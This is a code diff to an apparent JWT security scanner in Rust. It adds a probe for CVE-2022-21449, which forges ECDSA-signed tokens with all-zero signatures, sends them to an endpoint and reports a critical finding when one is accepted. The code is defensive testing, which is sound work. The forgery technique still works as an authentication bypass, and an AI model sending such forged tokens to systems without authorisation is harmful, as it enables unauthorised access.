@@ -989,6 +989,7 @@ fn resign(key: &str, header: &Map<String, Value>, claims: &Value) -> Result<Stri
 }
 
 const BASELINE: &str = "baseline with the given token";
+const PSYCHIC: &str = "ECDSA signature of zeros (CVE-2022-21449)";
 
 /// Sends one forged token; records and returns whether it was accepted (None: no answer).
 fn attempt(
@@ -1158,6 +1159,7 @@ fn active(
             "the endpoint does not verify signatures at all, so this forgery proves nothing more";
         skip(report, "alg none", why);
         skip(report, "RS256-to-HS256 key confusion", why);
+        skip(report, PSYCHIC, why);
     } else {
         signature_forgeries(http, url, jws, &claims, keys, report);
     }
@@ -1273,6 +1275,35 @@ fn signature_forgeries(
         .get("alg")
         .and_then(Value::as_str)
         .unwrap_or_default();
+    // ECDSA "psychic signatures" (CVE-2022-21449): r = s = 0, which Java 15-18 accepted.
+    let zeros = match alg {
+        "ES256" => Some(64),
+        "ES384" => Some(96),
+        "ES512" => Some(132),
+        _ => None,
+    };
+    match zeros {
+        Some(len) => {
+            let forged = format!(
+                "{}.{}.{}",
+                b64_json(&Value::Object(jws.header.clone())),
+                b64_json(claims),
+                B64.encode(vec![0u8; len])
+            );
+            if attempt(http, url, PSYCHIC, Some(&forged), report) == Some(true) {
+                report.findings.push(ProbeFinding::new(
+                    "jwt.psychic-signature-accepted",
+                    Severity::Critical,
+                    "ECDSA signatures of zeros are accepted (CVE-2022-21449)",
+                    format!(
+                        "GET {url} accepted the token with its {alg} signature replaced by zeros \
+                         (r = s = 0)"
+                    ),
+                ));
+            }
+        }
+        None => skip(report, PSYCHIC, "the token is not ECDSA-signed"),
+    }
     if alg.starts_with("RS") || alg.starts_with("ES") || alg.starts_with("PS") {
         let kid = jws.header.get("kid").and_then(Value::as_str);
         let candidates: Vec<&Value> = keys
